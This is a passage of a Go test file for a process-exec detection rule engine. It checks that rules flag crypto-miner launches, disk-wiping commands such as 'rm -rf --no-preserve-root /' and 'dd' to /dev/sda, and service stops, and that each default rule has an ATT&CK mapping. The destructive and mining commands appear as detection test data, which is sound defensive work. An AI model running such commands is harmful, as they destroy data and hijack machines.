		{name: "xmrig", ev: execOf("/tmp/.x/xmrig", "xmrig", "-o", "pool:3333"), parent: nil, want: "crypto-miner", reason: "crypto-currency miner: /tmp/.x/xmrig xmrig -o pool:3333"},
		{name: "stratum", ev: execOf("/opt/k/kworker", "kworker", "--url", "stratum+tcp://pool.example:3333"), parent: bash, want: "crypto-miner", reason: "crypto-currency miner: /opt/k/kworker kworker --url stratum+tcp://pool.example:3333"},
		{name: "not a miner", ev: execOf("/usr/bin/top", "top"), parent: bash},
		{name: "rm no-preserve-root", ev: execOf("/usr/bin/rm", "rm", "-rf", "--no-preserve-root", "/"), parent: bash, want: "disk-wipe", reason: "destructive command: rm -rf --no-preserve-root /"},
		{name: "dd to disk", ev: execOf("/usr/bin/dd", "dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"), parent: bash, want: "disk-wipe", reason: "destructive command: dd if=/dev/zero of=/dev/sda bs=1M"},
		{name: "dd to file", ev: execOf("/usr/bin/dd", "dd", "if=/dev/zero", "of=/tmp/img", "bs=1M"), parent: bash},
		{name: "stop mysql", ev: execOf("/usr/bin/systemctl", "systemctl", "stop", "mysql"), parent: bash, want: "service-stopped", reason: "service stopped: systemctl stop mysql"},
		{name: "restart mysql", ev: execOf("/usr/bin/systemctl", "systemctl", "restart", "mysql"), parent: bash},
	})
}

// TestEveryDefaultRuleIsTested makes sure each default rule has a firing
// case above: the test functions' cases are listed again by id here.
func TestEveryDefaultRuleHasAttackMapping(t *testing.T) {
	set := defaults(t)
	if n := len(set.Rules()); n < 40 {
		t.Errorf("%d default rules, want at least 40", n)
	}
	for _, r := range set.Rules() {
		if r.Title == "" || r.Description == "" || r.Severity == 0 || r.Attack.GetTacticId() == "" ||
			r.Attack.GetTechniqueId() == "" || r.Attack.GetTechnique() == "" || len(r.Kinds) == 0 || !r.Enabled {
			t.Errorf("rule %s is incomplete: %+v", r.ID, r)
		}
	}
}

// linkExec is an exec of a program run through a symbolic link: the image
// is exe, the comm is the link's name.
func linkExec(exe, comm string, args ...string) *event.Exec {
	x := execOf(exe, args...)
	x.Process.Comm = comm
	x.Filename = "/usr/sbin/" + comm
	return x
}
